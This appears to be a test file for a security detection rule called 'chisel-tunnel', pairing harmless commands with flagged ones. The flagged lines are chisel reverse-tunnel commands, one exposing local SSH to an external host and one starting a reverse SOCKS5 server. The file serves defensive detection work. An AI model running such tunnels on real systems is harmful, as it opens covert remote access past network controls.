#!/bin/bash
# ok: chisel-tunnel
chisel --version
# ok: chisel-tunnel
redis-cli client list
# ruleid: chisel-tunnel
./chisel client --auth "$CRED" https://203.0.113.7 R:2222:localhost:22 &
# ruleid: chisel-tunnel
chisel server --reverse --socks5 --port 9312
